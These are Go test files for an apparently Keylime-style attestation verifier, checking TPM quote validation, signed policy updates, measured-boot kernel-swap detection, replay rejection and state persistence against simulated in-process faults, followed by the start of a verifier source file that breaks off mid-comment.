	v2 := verifier.New(s.regSrv.URL)
	if err := v2.AddAgent(s.m.UUID(), proxy.URL, policyFromMachine(t, s.m)); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	res, err := v2.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce: %v", err)
	}
	if res.Failure == nil || res.Failure.Type != verifier.FailureLogTampered {
		t.Fatalf("Failure = %+v, want log-tampered", res.Failure)
	}
}

func TestUnreachableAgentCommsFailure(t *testing.T) {
	// An unreachable agent is an infrastructure fault, not an integrity
	// verdict: rounds degrade, retries happen, and only a run of faulted
	// rounds exceeding the budget escalates to a single FailureComms —
	// which still never halts polling.
	s := newStack(t, nil)
	v := verifier.New(s.regSrv.URL,
		verifier.WithRetryPolicy(verifier.RetryPolicy{
			MaxAttempts:    2,
			InitialBackoff: time.Millisecond,
			RequestTimeout: time.Second,
		}),
		verifier.WithCommsFaultBudget(3),
	)
	if err := v.AddAgent(s.m.UUID(), "http://127.0.0.1:1", policy.New()); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	ctx := context.Background()
	for round := 1; round <= 2; round++ {
		res, err := v.AttestOnce(ctx, s.m.UUID())
		if err != nil {
			t.Fatalf("AttestOnce round %d: %v", round, err)
		}
		if !res.Degraded || res.Failure != nil {
			t.Fatalf("round %d = %+v, want degraded without a verdict", round, res)
		}
		if res.Attempts != 2 {
			t.Fatalf("round %d attempts = %d, want 2 (retry happened)", round, res.Attempts)
		}
	}
	st, _ := v.Status(s.m.UUID())
	if st.State != verifier.StateDegraded || st.Halted || st.ConsecutiveFaults != 2 {
		t.Fatalf("Status = %+v, want Degraded, not halted, 2 consecutive faults", st)
	}
	// The third faulted round exhausts the budget: one FailureComms.
	res, err := v.AttestOnce(ctx, s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce round 3: %v", err)
	}
	if res.Failure == nil || res.Failure.Type != verifier.FailureComms {
		t.Fatalf("Failure = %+v, want comms-error escalation", res.Failure)
	}
	st, _ = v.Status(s.m.UUID())
	if st.Halted {
		t.Fatal("comms escalation halted the agent; availability is not compromise")
	}
	// Further faulted rounds do not re-escalate.
	if res, err = v.AttestOnce(ctx, s.m.UUID()); err != nil || res.Failure != nil {
		t.Fatalf("round 4 = %+v, %v; want degraded without a second escalation", res, err)
	}
	st, _ = v.Status(s.m.UUID())
	if len(st.Failures) != 1 {
		t.Fatalf("failures = %d, want exactly 1 comms escalation", len(st.Failures))
	}
}

func TestAddAgentRequiresActivation(t *testing.T) {
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	m, err := machine.New(ca, machine.WithTPMOptions(tpm.WithEKBits(1024)))
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	reg := registrar.New(ca.Pool())
	regSrv := httptest.NewServer(reg.Handler())
	defer regSrv.Close()
	// Register but never activate.
	akPub, err := m.TPM().CreateAK()
	if err != nil {
		t.Fatalf("CreateAK: %v", err)
	}
	if _, err := reg.Register(m.UUID(), m.TPM().EKCertificate(), akPub, "u"); err != nil {
		t.Fatalf("Register: %v", err)
	}
	v := verifier.New(regSrv.URL)
	if err := v.AddAgent(m.UUID(), "u", policy.New()); !errors.Is(err, verifier.ErrAgentInactive) {
		t.Fatalf("AddAgent: %v, want ErrAgentInactive", err)
	}
}

func TestRevocationHandlerFires(t *testing.T) {
	var fired []verifier.Failure
	s := newStack(t, nil, verifier.WithRevocationHandler(func(id string, f verifier.Failure) {
		fired = append(fired, f)
	}))
	addAgent(t, s, policy.New())
	writeExec(t, s.m, "/usr/bin/x", "x")
	exec(t, s.m, "/usr/bin/x")
	_ = attest(t, s)
	if len(fired) != 1 || fired[0].Path != "/usr/bin/x" {
		t.Fatalf("revocation handler calls = %+v", fired)
	}
}

func TestDuplicateAndUnknownAgentErrors(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policy.New())
	if err := s.v.AddAgentWithAK(s.m.UUID(), "u", nil, policy.New()); !errors.Is(err, verifier.ErrDuplicate) {
		t.Fatalf("duplicate add: %v, want ErrDuplicate", err)
	}
	if _, err := s.v.AttestOnce(context.Background(), "ghost"); !errors.Is(err, verifier.ErrUnknownAgent) {
		t.Fatalf("attest unknown: %v, want ErrUnknownAgent", err)
	}
	if err := s.v.Resume("ghost"); !errors.Is(err, verifier.ErrUnknownAgent) {
		t.Fatalf("resume unknown: %v, want ErrUnknownAgent", err)
	}
	if err := s.v.RemoveAgent("ghost"); !errors.Is(err, verifier.ErrUnknownAgent) {
		t.Fatalf("remove unknown: %v, want ErrUnknownAgent", err)
	}
	if err := s.v.RemoveAgent(s.m.UUID()); err != nil {
		t.Fatalf("RemoveAgent: %v", err)
	}
	if ids := s.v.AgentIDs(); len(ids) != 0 {
		t.Fatalf("AgentIDs = %v, want empty", ids)
	}
}

func TestPolicyUpdateUnblocksUpdatedFile(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	// Simulate a controlled update: the dynamic policy generator pushes the
	// new digest BEFORE the file changes on disk.
	updated := policyFromMachine(t, s.m)
	newDigest := vfsDigest("v2")
	updated.Add("/usr/bin/tool", newDigest)
	if err := s.v.UpdatePolicy(s.m.UUID(), updated); err != nil {
		t.Fatalf("UpdatePolicy: %v", err)
	}
	writeExec(t, s.m, "/usr/bin/tool", "v2")
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation failed despite pre-pushed policy: %+v", res.Failure)
	}
}

func vfsDigest(content string) tpm.Digest {
	return sha256.Sum256([]byte(content))
}

func TestManagementAPIWithTenant(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	mgmtSrv := httptest.NewServer(s.v.ManagementHandler())
	defer mgmtSrv.Close()
	tn := tenant.New(mgmtSrv.URL)
	pol := policyFromMachine(t, s.m)
	if err := tn.AddAgent(s.m.UUID(), s.agSrv.URL, pol); err != nil {
		t.Fatalf("tenant.AddAgent: %v", err)
	}
	exec(t, s.m, "/usr/bin/tool")
	_ = attest(t, s)
	st, err := tn.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("tenant.Status: %v", err)
	}
	if st.State != "Get Quote" || st.Attestations != 1 {
		t.Fatalf("tenant status = %+v", st)
	}
	// Trigger a failure, resume via tenant.
	writeExec(t, s.m, "/usr/bin/unknown", "x")
	exec(t, s.m, "/usr/bin/unknown")
	_ = attest(t, s)
	st, _ = tn.Status(s.m.UUID())
	if !st.Halted || len(st.Failures) != 1 {
		t.Fatalf("status after failure = %+v", st)
	}
	fixed := policyFromMachine(t, s.m)
	if err := tn.UpdatePolicy(s.m.UUID(), fixed); err != nil {
		t.Fatalf("tenant.UpdatePolicy: %v", err)
	}
	if err := tn.Resume(s.m.UUID()); err != nil {
		t.Fatalf("tenant.Resume: %v", err)
	}
	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation failed after tenant fix: %+v", res.Failure)
	}
	if err := tn.RemoveAgent(s.m.UUID()); err != nil {
		t.Fatalf("tenant.RemoveAgent: %v", err)
	}
	if _, err := tn.Status(s.m.UUID()); err == nil {
		t.Fatal("status of removed agent succeeded")
	}
}

func TestPollingLoopRunsAndHaltsOnFailure(t *testing.T) {
	s := newStack(t, nil, verifier.WithPollInterval(time.Millisecond))
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	done := make(chan struct{})
	var rounds int
	var loopErr error
	go func() {
		rounds, loopErr = s.v.StartPolling(ctx, s.m.UUID())
		close(done)
	}()
	// Let a few healthy rounds pass, then plant an unknown executable.
	for {
		st, err := s.v.Status(s.m.UUID())
		if err != nil {
			t.Fatalf("Status: %v", err)
		}
		if st.Attestations >= 3 {
			break
		}
		time.Sleep(2 * time.Millisecond)
		if ctx.Err() != nil {
			t.Fatal("polling did not make progress")
		}
	}
	writeExec(t, s.m, "/usr/bin/unknown", "x")
	exec(t, s.m, "/usr/bin/unknown")
	select {
	case <-done:
	case <-ctx.Done():
		t.Fatal("polling loop did not halt after failure")
	}
	if !errors.Is(loopErr, verifier.ErrHalted) {
		t.Fatalf("loop err = %v, want ErrHalted", loopErr)
	}
	if rounds < 3 {
		t.Fatalf("rounds = %d, want >= 3", rounds)
	}
}

func TestSignedPolicyEnforcement(t *testing.T) {
	signer, err := policy.NewSigner(rand.Reader)
	if err != nil {
		t.Fatalf("NewSigner: %v", err)
	}
	pub, err := signer.Public()
	if err != nil {
		t.Fatalf("Public: %v", err)
	}
	ts, err := policy.NewTrustStore(pub)
	if err != nil {
		t.Fatalf("NewTrustStore: %v", err)
	}
	s := newStack(t, nil, verifier.WithPolicyTrust(ts))
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))

	// Unsigned updates are rejected outright.
	if err := s.v.UpdatePolicy(s.m.UUID(), policyFromMachine(t, s.m)); !errors.Is(err, verifier.ErrUnsignedPolicy) {
		t.Fatalf("UpdatePolicy err = %v, want ErrUnsignedPolicy", err)
	}

	// A signed update from the trusted generator is accepted and used.
	updated := policyFromMachine(t, s.m)
	updated.Add("/usr/bin/tool", vfsDigest("v2"))
	env, err := signer.Sign(updated)
	if err != nil {
		t.Fatalf("Sign: %v", err)
	}
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), env); err != nil {
		t.Fatalf("UpdateSignedPolicy: %v", err)
	}
	writeExec(t, s.m, "/usr/bin/tool", "v2")
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation failed after signed policy update: %+v", res.Failure)
	}

	// A forged envelope from an untrusted key is rejected.
	rogue, err := policy.NewSigner(rand.Reader)
	if err != nil {
		t.Fatalf("NewSigner: %v", err)
	}
	permissive := policy.New()
	forged, err := rogue.Sign(permissive)
	if err != nil {
		t.Fatalf("Sign: %v", err)
	}
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), forged); err == nil {
		t.Fatal("forged policy envelope accepted")
	}
}

func TestUpdateSignedPolicyWithoutTrustStore(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policy.New())
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), policy.Envelope{}); !errors.Is(err, verifier.ErrNoPolicyTrust) {
		t.Fatalf("err = %v, want ErrNoPolicyTrust", err)
	}
}

func TestSignedPolicyOverManagementAPI(t *testing.T) {
	signer, err := policy.NewSigner(rand.Reader)
	if err != nil {
		t.Fatalf("NewSigner: %v", err)
	}
	pub, _ := signer.Public()
	ts, err := policy.NewTrustStore(pub)
	if err != nil {
		t.Fatalf("NewTrustStore: %v", err)
	}
	s := newStack(t, nil, verifier.WithPolicyTrust(ts))
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	mgmtSrv := httptest.NewServer(s.v.ManagementHandler())
	defer mgmtSrv.Close()
	tn := tenant.New(mgmtSrv.URL)

	env, err := signer.Sign(policyFromMachine(t, s.m))
	if err != nil {
		t.Fatalf("Sign: %v", err)
	}
	if err := tn.UpdateSignedPolicy(s.m.UUID(), env); err != nil {
		t.Fatalf("tenant.UpdateSignedPolicy: %v", err)
	}
	// Unsigned tenant pushes are refused by the trust-enforcing verifier.
	if err := tn.UpdatePolicy(s.m.UUID(), policy.New()); err == nil {
		t.Fatal("unsigned policy accepted over management API")
	}
}

func TestMeasuredBootValidation(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	golden := measuredboot.GoldenFromLog(s.m.BootLog())
	if err := s.v.SetBootGolden(s.m.UUID(), golden); err != nil {
		t.Fatalf("SetBootGolden: %v", err)
	}
	// Healthy boot: attestation passes including the measured-boot check.
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation with golden boot state failed: %+v", res.Failure)
	}
	// A reboot into the same kernel still matches the golden state.
	if err := s.m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	res = attest(t, s)
	if res.Failure != nil {
		t.Fatalf("post-reboot attestation failed: %+v", res.Failure)
	}
}

func TestMeasuredBootDetectsKernelSwap(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policyFromMachine(t, s.m))
	golden := measuredboot.GoldenFromLog(s.m.BootLog())
	if err := s.v.SetBootGolden(s.m.UUID(), golden); err != nil {
		t.Fatalf("SetBootGolden: %v", err)
	}
	// An attacker-controlled kernel is installed and booted.
	k := workloadKernelPackage("5.15.0-evil")
	if err := s.m.InstallPackage(k); err != nil {
		t.Fatalf("InstallPackage: %v", err)
	}
	if err := s.m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	res := attest(t, s)
	if res.Failure == nil || res.Failure.Type != verifier.FailureMeasuredBoot {
		t.Fatalf("Failure = %+v, want measured-boot-mismatch", res.Failure)
	}
	// The operator vets the new kernel and updates the golden state.
	if err := s.v.SetBootGolden(s.m.UUID(), measuredboot.GoldenFromLog(s.m.BootLog())); err != nil {
		t.Fatalf("SetBootGolden: %v", err)
	}
	if err := s.v.Resume(s.m.UUID()); err != nil {
		t.Fatalf("Resume: %v", err)
	}
	res = attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation after golden refresh failed: %+v", res.Failure)
	}
}

func TestSetBootGoldenUnknownAgent(t *testing.T) {
	s := newStack(t, nil)
	if err := s.v.SetBootGolden("ghost", nil); !errors.Is(err, verifier.ErrUnknownAgent) {
		t.Fatalf("err = %v, want ErrUnknownAgent", err)
	}
}

// workloadKernelPackage builds a minimal kernel image package for tests.
func workloadKernelPackage(version string) mirror.Package {
	return mirror.Package{
		Name:     "linux-image-" + version,
		Version:  version + ".1",
		Suite:    mirror.SuiteUpdates,
		Priority: mirror.PriorityOptional,
		Files: []mirror.PackageFile{
			{Path: "/boot/vmlinuz-" + version, Mode: vfs.ModeExecutable, Size: 4096},
		},
	}
}

func TestAuditLogRecordsAttestations(t *testing.T) {
	auditLog := audit.NewLog()
	s := newStack(t, nil, verifier.WithAuditLog(auditLog))
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	_ = attest(t, s) // pass
	writeExec(t, s.m, "/usr/bin/unknown", "x")
	exec(t, s.m, "/usr/bin/unknown")
	_ = attest(t, s) // fail
	// Halted round: not a completed attestation, not recorded.
	_, err := s.v.AttestOnce(context.Background(), s.m.UUID())
	if !errors.Is(err, verifier.ErrHalted) {
		t.Fatalf("err = %v, want ErrHalted", err)
	}

	records := auditLog.Records()
	if len(records) != 2 {
		t.Fatalf("audit records = %d, want 2", len(records))
	}
	if records[0].Outcome != audit.OutcomePass {
		t.Fatalf("record 0 outcome = %v, want pass", records[0].Outcome)
	}
	if records[1].Outcome != audit.OutcomeFail || records[1].FailurePath != "/usr/bin/unknown" {
		t.Fatalf("record 1 = %+v, want failure on /usr/bin/unknown", records[1])
	}
	if err := audit.VerifyChain(records); err != nil {
		t.Fatalf("VerifyChain: %v", err)
	}
}

func TestAgentOutageAndRecovery(t *testing.T) {
	// Failure injection: the agent process dies mid-monitoring; the
	// verifier degrades the agent, escalates to a comms failure at the
	// fault budget (without halting), and when the agent returns at the
	// same address, incremental attestation resumes on its own — no
	// operator Resume is needed for an infrastructure outage.
	s := newStack(t, nil,
		verifier.WithRetryPolicy(verifier.RetryPolicy{
			MaxAttempts:    2,
			InitialBackoff: time.Millisecond,
			RequestTimeout: time.Second,
		}),
		verifier.WithCommsFaultBudget(2),
	)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure != nil || res.VerifiedEntries != 2 {
		t.Fatalf("baseline = %+v", res)
	}

	// Take the agent down (close its listener, keep the address).
	addr := s.agSrv.Listener.Addr().String()
	s.agSrv.Close()
	res = attest(t, s)
	if !res.Degraded || res.Failure != nil {
		t.Fatalf("first outage round = %+v, want degraded without a verdict", res)
	}
	res = attest(t, s)
	if res.Failure == nil || res.Failure.Type != verifier.FailureComms {
		t.Fatalf("Failure = %+v, want comms-error escalation at the budget", res.Failure)
	}
	st, _ := s.v.Status(s.m.UUID())
	if st.Halted {
		t.Fatal("outage halted the agent; polling must continue through it")
	}
	if st.State != verifier.StateDegraded {
		t.Fatalf("state = %v, want Degraded", st.State)
	}

	// Restart the agent on the same address.
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("cannot rebind %s: %v", addr, err)
	}
	srv2 := &http.Server{Handler: s.ag.Handler()}
	go func() { _ = srv2.Serve(ln) }()
	t.Cleanup(func() { _ = srv2.Close() })

	writeExec(t, s.m, "/usr/bin/second", "ok2")
	fixed := policyFromMachine(t, s.m)
	if err := s.v.UpdatePolicy(s.m.UUID(), fixed); err != nil {
		t.Fatalf("UpdatePolicy: %v", err)
	}
	exec(t, s.m, "/usr/bin/second")
	res = attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation after recovery failed: %+v", res.Failure)
	}
	if res.NewEntries != 1 {
		t.Fatalf("NewEntries = %d, want 1 (incremental state survived the outage)", res.NewEntries)
	}
	st, _ = s.v.Status(s.m.UUID())
	if st.State != verifier.StateAttesting || st.ConsecutiveFaults != 0 {
		t.Fatalf("post-recovery status = %+v, want Attesting with fault run reset", st)
	}
}

func TestQuoteReplayAttackRejected(t *testing.T) {
	// A man-in-the-middle caches one valid quote response and replays it
	// for every subsequent challenge: the stale nonce fails verification.
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	pol := policyFromMachine(t, s.m)

	var mu sync.Mutex
	var cached []byte
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		mu.Lock()
		replay := cached
		mu.Unlock()
		if replay != nil {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(replay)
			return
		}
		resp, err := http.Get(s.agSrv.URL + req.URL.String())
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer func() { _ = resp.Body.Close() }()
		body, _ := io.ReadAll(resp.Body)
		mu.Lock()
		cached = body
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(body)
	}))
	defer proxy.Close()

	v := verifier.New(s.regSrv.URL)
	if err := v.AddAgent(s.m.UUID(), proxy.URL, pol); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	// First round: genuine response passes (and is cached by the MITM).
	res, err := v.AttestOnce(context.Background(), s.m.UUID())
	if err != nil || res.Failure != nil {
		t.Fatalf("first round = %+v, %v", res, err)
	}
	// Second round: the replayed quote carries the old nonce.
	if err := v.Resume(s.m.UUID()); err != nil {
		t.Fatalf("Resume: %v", err)
	}
	res, err = v.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce: %v", err)
	}
	if res.Failure == nil || res.Failure.Type != verifier.FailureQuoteInvalid {
		t.Fatalf("Failure = %+v, want invalid-quote (nonce replay)", res.Failure)
	}
}

func TestVerifierStatePersistenceAcrossRestart(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	if err := s.v.SetBootGolden(s.m.UUID(), measuredboot.GoldenFromLog(s.m.BootLog())); err != nil {
		t.Fatalf("SetBootGolden: %v", err)
	}
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure != nil || res.VerifiedEntries != 2 {
		t.Fatalf("baseline = %+v", res)
	}

	// "Restart": export state, build a fresh verifier, restore.
	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	data, err := json.Marshal(snap)
	if err != nil {
		t.Fatalf("Marshal snapshot: %v", err)
	}
	var back verifier.Snapshot
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatalf("Unmarshal snapshot: %v", err)
	}
	v2 := verifier.New(s.regSrv.URL)
	if err := v2.RestoreState(back); err != nil {
		t.Fatalf("RestoreState: %v", err)
	}
	st, err := v2.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status after restore: %v", err)
	}
	if st.VerifiedEntries != 2 || st.Attestations != 1 {
		t.Fatalf("restored status = %+v", st)
	}

	// New activity after the restart: the restored verifier continues
	// incrementally from the persisted frontier.
	writeExec(t, s.m, "/usr/bin/post-restart", "n")
	// Not in the restored policy -> must be flagged (proves the policy and
	// boot golden survived too).
	exec(t, s.m, "/usr/bin/post-restart")
	res2, err := v2.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce after restore: %v", err)
	}
	if res2.NewEntries != 1 {
		t.Fatalf("NewEntries = %d, want 1 (incremental after restore)", res2.NewEntries)
	}
	if res2.Failure == nil || res2.Failure.Path != "/usr/bin/post-restart" {
		t.Fatalf("Failure = %+v, want post-restart flagged", res2.Failure)
	}
}

func TestRestoreStateRequiresEmptyVerifier(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policy.New())
	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	if err := s.v.RestoreState(snap); err == nil {
		t.Fatal("RestoreState into non-empty verifier succeeded")
	}
}

func TestRestoreStateRejectsCorruptSnapshot(t *testing.T) {
	v := verifier.New("")
	bad := verifier.Snapshot{Agents: []verifier.AgentState{{
		AgentID: "a", AKPub: "%%%", PrefixAggregate: "00",
	}}}
	if err := v.RestoreState(bad); err == nil {
		t.Fatal("corrupt snapshot accepted")
	}
}

func TestManagementListAgents(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policy.New())
	mgmtSrv := httptest.NewServer(s.v.ManagementHandler())
	defer mgmtSrv.Close()
	tn := tenant.New(mgmtSrv.URL)
	ids, err := tn.ListAgents()
	if err != nil {
		t.Fatalf("ListAgents: %v", err)
	}
	if len(ids) != 1 || ids[0] != s.m.UUID() {
		t.Fatalf("ListAgents = %v", ids)
	}
	if err := tn.RemoveAgent(s.m.UUID()); err != nil {
		t.Fatalf("RemoveAgent: %v", err)
	}
	ids, err = tn.ListAgents()
	if err != nil {
		t.Fatalf("ListAgents after remove: %v", err)
	}
	if len(ids) != 0 {
		t.Fatalf("ListAgents after remove = %v, want empty", ids)
	}
}

func TestRunLoopPollsAllAgents(t *testing.T) {
	s := newStack(t, nil, verifier.WithPollInterval(time.Millisecond))
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.v.Run(ctx) }()
	deadline := time.Now().Add(5 * time.Second)
	for {
		st, err := s.v.Status(s.m.UUID())
		if err != nil {
			t.Fatalf("Status: %v", err)
		}
		if st.Attestations >= 3 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("Run loop made no progress")
		}
		time.Sleep(2 * time.Millisecond)
	}
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("Run returned %v, want context.Canceled", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("Run did not exit after cancel")
	}
}

func TestStatusFailuresAreACopy(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policy.New())
	writeExec(t, s.m, "/usr/bin/x", "x")
	exec(t, s.m, "/usr/bin/x")
	_ = attest(t, s)
	st, _ := s.v.Status(s.m.UUID())
	if len(st.Failures) != 1 {
		t.Fatalf("failures = %d", len(st.Failures))
	}
	st.Failures[0].Path = "/mutated"
	st2, _ := s.v.Status(s.m.UUID())
	if st2.Failures[0].Path != "/usr/bin/x" {
		t.Fatal("Status returned internal failure slice")
	}
}

func TestAttestationUnderConcurrentActivity(t *testing.T) {
	// Continuous polling while the machine keeps executing new (policy-
	// covered) binaries: the agent's read-quote-recheck loop must keep the
	// quoted PCR and the returned log consistent, so no aggregate-mismatch
	// failures appear.
	s := newStack(t, nil, verifier.WithContinueOnFailure(true))
	pol := policyFromMachine(t, s.m)
	// Pre-authorize everything the activity goroutine will execute.
	for i := 0; i < 200; i++ {
		path := fmt.Sprintf("/usr/bin/act-%d", i)
		content := fmt.Sprintf("\x7fELF %d", i)
		writeExec(t, s.m, path, content)
	}
	pol = policyFromMachine(t, s.m)
	addAgent(t, s, pol)

	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			_ = s.m.Exec(fmt.Sprintf("/usr/bin/act-%d", i%200))
		}
	}()
	ctx := context.Background()
	for round := 0; round < 50; round++ {
		res, err := s.v.AttestOnce(ctx, s.m.UUID())
		if err != nil {
			t.Fatalf("AttestOnce: %v", err)
		}
		if res.Failure != nil {
			t.Fatalf("round %d failed under concurrent activity: %+v", round, res.Failure)
		}
	}
	close(stop)
	wg.Wait()
}
