package verifier_test

// Chain-of-custody provenance on the verifier: the DSSE envelope that
// sealed an installed policy rides along in state snapshots, and a row
// whose envelope no longer parses is a corrupt row with its own lenient
// skip reason — never a silently-dropped field.

import (
	"encoding/json"
	"testing"

	"repro/internal/keylime/dsse"
	"repro/internal/keylime/verifier"
)

func TestPolicyEnvelopeRoundTripsThroughSnapshot(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policyFromMachine(t, s.m))
	id := s.m.UUID()

	kr := dsse.NewKeyring()
	if _, err := kr.Rotate(); err != nil {
		t.Fatal(err)
	}
	env, err := kr.Sign("application/vnd.keylime.policy-bundle+json", []byte(`{"gen":7}`))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := dsse.Encode(env)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.v.SetPolicyEnvelope(id, raw); err != nil {
		t.Fatalf("SetPolicyEnvelope: %v", err)
	}
	// A non-envelope is rejected at the door.
	if err := s.v.SetPolicyEnvelope(id, json.RawMessage(`{"payload":42}`)); err == nil {
		t.Fatal("SetPolicyEnvelope accepted a non-envelope")
	}

	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	if string(snap.Agents[0].PolicyEnvelope) != string(raw) {
		t.Fatalf("exported envelope = %s, want %s", snap.Agents[0].PolicyEnvelope, raw)
	}

	v2 := verifier.New(s.regSrv.URL)
	if err := v2.RestoreState(snap); err != nil {
		t.Fatalf("RestoreState: %v", err)
	}
	snap2, err := v2.ExportState()
	if err != nil {
		t.Fatalf("re-export: %v", err)
	}
	if string(snap2.Agents[0].PolicyEnvelope) != string(raw) {
		t.Fatalf("envelope lost in restore round trip: %s", snap2.Agents[0].PolicyEnvelope)
	}

	// A new generation install clears stale provenance: the envelope
	// sealed the old bundle, not whatever just landed.
	pol, _, err := v2.ActivePolicy(id)
	if err != nil {
		t.Fatal(err)
	}
	if err := v2.InstallPolicyGeneration(id, 9, pol); err != nil {
		t.Fatalf("InstallPolicyGeneration: %v", err)
	}
	snap3, err := v2.ExportState()
	if err != nil {
		t.Fatal(err)
	}
	if len(snap3.Agents[0].PolicyEnvelope) != 0 {
		t.Fatalf("stale envelope survived install: %s", snap3.Agents[0].PolicyEnvelope)
	}
}

func TestRestoreLenientSkipsBadPolicyEnvelope(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policyFromMachine(t, s.m))
	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	good := snap.Agents[0]
	bad := good
	bad.AgentID = "agent-bad-envelope"
	bad.PolicyEnvelope = json.RawMessage(`{"payloadType":7,"not":"an envelope"`)

	// Strict restore refuses the row outright.
	if err := verifier.New(s.regSrv.URL).RestoreState(verifier.Snapshot{
		Agents: []verifier.AgentState{bad},
	}); err == nil {
		t.Fatal("strict RestoreState accepted an undecodable policy envelope")
	}

	// Lenient restore skips it with the envelope named as the bad field,
	// and the intact row still comes up.
	v2 := verifier.New(s.regSrv.URL)
	skipped, err := v2.RestoreStateLenient(verifier.Snapshot{
		Agents: []verifier.AgentState{bad, good},
	})
	if err != nil {
		t.Fatalf("RestoreStateLenient: %v", err)
	}
	if len(skipped) != 1 {
		t.Fatalf("skipped = %v, want 1 row", skipped)
	}
	if skipped[0].AgentID != "agent-bad-envelope" || skipped[0].Field != "policy_envelope" {
		t.Fatalf("skip reason = %+v, want field policy_envelope", skipped[0])
	}
	if v2.AgentCount() != 1 {
		t.Fatalf("agents after lenient restore = %d, want 1", v2.AgentCount())
	}
}
