package verifier

import (
	"runtime"
	"sync"
	"sync/atomic"

	"repro/internal/ima"
	"repro/internal/tpm"
)

// parallelVerifyThreshold is the batch size above which template-hash
// validation fans out across the verify worker pool. Small steady-state
// polls (a handful of new entries) stay on the serial path: goroutine
// hand-off would cost more than the hashing it saves.
const parallelVerifyThreshold = 256

// verifyChunk is the unit of work handed to a validation worker.
const verifyChunk = 64

// verifyAndFold validates every entry's template hash and folds the PCR 10
// replay chain in a single pass over the batch. Each template hash is
// recomputed exactly once (by Valid); the extend chain reuses the stored
// TemplateHash, so no digest is hashed twice.
//
// It returns aggs, where aggs[i] is the aggregate after folding
// entries[:i+1] onto prefix — aggs[len-1] is the full replay value and
// aggs[verified-1] the verified-prefix aggregate, letting the caller
// record any frontier without rehashing — and the index of the first
// structurally invalid entry (-1 when all entries are valid; aggs is nil
